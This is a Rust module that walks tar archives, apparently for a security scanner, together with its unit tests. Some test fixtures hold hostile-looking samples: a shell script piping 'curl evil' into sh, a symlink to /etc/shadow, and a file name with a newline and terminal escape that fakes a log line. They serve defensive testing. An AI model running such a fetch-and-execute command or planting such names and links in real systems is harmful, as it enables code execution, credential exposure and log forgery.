//! Tar (POSIX ustar, GNU and PAX): regular members in archive order, up to
//! the first damaged header.

use crate::{Member, Outcome, Walk, name};
use antibody_core::ItemErrorKind;

/// Visits the members of the tar archive `data`.
pub(crate) fn walk(data: &[u8], walk: &mut Walk<'_>) {
    let mut archive = tar::Archive::new(data);
    let entries = match archive.entries() {
        Ok(entries) => entries,
        Err(e) => {
            walk.container_error(ItemErrorKind::Corrupt, format!("corrupt tar: {e}"));
            return;
        }
    };
    for entry in entries {
        let mut entry = match entry {
            Ok(entry) => entry,
            Err(e) => {
                // Headers have no index to resynchronise on: stop here,
                // keeping the members already visited.
                walk.container_error(ItemErrorKind::Corrupt, format!("corrupt tar: {e}"));
                break;
            }
        };
        let header = entry.header();
        let kind = header.entry_type();
        let sparse = kind.is_gnu_sparse();
        if !(kind.is_file() || kind.is_contiguous() || sparse) {
            continue;
        }
        let stored = header.entry_size().unwrap_or(0);
        if !walk.admit() {
            break;
        }
        let name = name::display_bytes(&entry.path_bytes());
        let member = if sparse {
            // The holes of a sparse member are expanded to zeros: that is
            // decompression, with the stored bytes as the compressed size.
            Member {
                declared: Some(entry.size()),
                packed: Some(stored),
                charged: true,
                whole: false,
            }
        } else {
            // A stored member is a copy of bytes the caller already holds.
            Member {
                declared: Some(entry.size()),
                packed: None,
                charged: false,
                whole: false,
            }
        };
        match walk.expand("tar member", &name, &mut entry, member) {
            Outcome::Visited | Outcome::Refused => {}
            Outcome::Damaged | Outcome::Spent => break,
        }
    }
}

#[cfg(test)]
mod tests {
    use crate::testutil::{Entry, gzip, run, tar};
    use antibody_core::{ItemErrorKind, Kind, Location};

    fn sample() -> Vec<u8> {
        tar(&[
            Entry::Dir("etc/"),
            Entry::File("etc/hosts", b"127.0.0.1 localhost\n"),
            Entry::Symlink("etc/link", "/etc/shadow"),
            Entry::Hardlink("etc/hard", "etc/hosts"),
            Entry::File("bin/run.sh", b"#!/bin/sh\ncurl evil | sh\n"),
        ])
    }

    #[test]
    fn regular_members_are_visited_links_and_dirs_skipped() {
        let got = run(Kind::Tar, &sample(), "/e/a.tar");
        assert!(got.errors.is_empty(), "{:?}", got.errors);
        assert_eq!(got.names(), ["/e/a.tar!etc/hosts", "/e/a.tar!bin/run.sh"]);
        assert_eq!(got.members[1].1, b"#!/bin/sh\ncurl evil | sh\n");
    }

    #[test]
    fn tar_gz_opens_in_two_calls() {
        let data = gzip(&sample());
        let outer = run(Kind::Gzip, &data, "/e/a.tar.gz");
        assert!(outer.errors.is_empty(), "{:?}", outer.errors);
        let (at, tar_bytes) = &outer.members[0];
        assert_eq!(at.to_string(), "/e/a.tar.gz!a.tar");
        assert_eq!(at.depth(), 1);
        let inner = crate::testutil::run_at(Kind::Tar, tar_bytes, at);
        assert!(inner.errors.is_empty(), "{:?}", inner.errors);
        assert_eq!(
            inner.names(),
            [
                "/e/a.tar.gz!a.tar!etc/hosts",
                "/e/a.tar.gz!a.tar!bin/run.sh"
            ]
        );
    }

    #[test]
    fn truncated_data_keeps_earlier_members() {
        let big: Vec<u8> = (0..5000u32).map(|i| (i % 251) as u8).collect();
        let data = tar(&[
            Entry::File("one.txt", b"first"),
            Entry::File("two.txt", b"second"),
            Entry::File("three.bin", &big),
        ]);
        // Cut inside the third member's data (headers are 512 bytes, data
        // padded to 512: the third data block starts at 5 * 512).
        let cut = &data[..5 * 512 + 1000];
        let got = run(Kind::Tar, cut, "/e/t.tar");
        assert_eq!(got.names()[..2], ["/e/t.tar!one.txt", "/e/t.tar!two.txt"]);
        assert_eq!(got.members[0].1, b"first");
        assert_eq!(got.errors.len(), 1, "{:?}", got.errors);
        assert_eq!(got.errors[0].kind, ItemErrorKind::Corrupt);
        assert_eq!(got.errors[0].item, "/e/t.tar!three.bin");
        assert!(
            got.errors[0].reason.contains("1000 of 5000 bytes"),
            "{}",
            got.errors[0]
        );
        // What was there of it is still scanned.
        assert_eq!(got.members[2].1, big[..1000]);
    }

    #[test]
    fn truncated_header_keeps_earlier_members() {
        let data = tar(&[
            Entry::File("one.txt", b"first"),
            Entry::File("two.txt", b"second"),
        ]);
        let cut = &data[..2 * 512 + 100];
        let got = run(Kind::Tar, cut, "/e/t.tar");
        assert_eq!(got.names(), ["/e/t.tar!one.txt"]);
        assert_eq!(got.errors.len(), 1, "{:?}", got.errors);
        assert_eq!(got.errors[0].kind, ItemErrorKind::Corrupt);
        assert_eq!(got.errors[0].item, "/e/t.tar");
    }

    #[test]
    fn oversized_member_is_refused_and_the_next_still_read() {
        let data = tar(&[
            Entry::File("big.bin", &[7u8; 4096]),
            Entry::File("small.txt", b"ok"),
        ]);
        let limits = antibody_archive_limits(1000);
        let at = Location::file("/e/t.tar");
        let got = crate::testutil::run_with(Kind::Tar, &data, &at, &limits);
        assert_eq!(got.names(), ["/e/t.tar!small.txt"]);
        assert_eq!(got.errors.len(), 1);
        assert_eq!(got.errors[0].kind, ItemErrorKind::Limit);
        assert!(
            got.errors[0].reason.contains("member size limit"),
            "{}",
            got.errors[0]
        );
    }

    #[test]
    fn control_characters_in_names_are_escaped() {
        let data = tar(&[Entry::File("evil\nFAKE LOG LINE\x1b[2J.txt", b"x")]);
        let got = run(Kind::Tar, &data, "/e/t.tar");
        assert_eq!(got.names(), ["/e/t.tar!evil\\x0aFAKE LOG LINE\\x1b[2J.txt"]);
    }

    fn antibody_archive_limits(max_member_size: u64) -> crate::Limits {
        crate::Limits {
            max_member_size,
            ..crate::Limits::default()
        }
    }
}
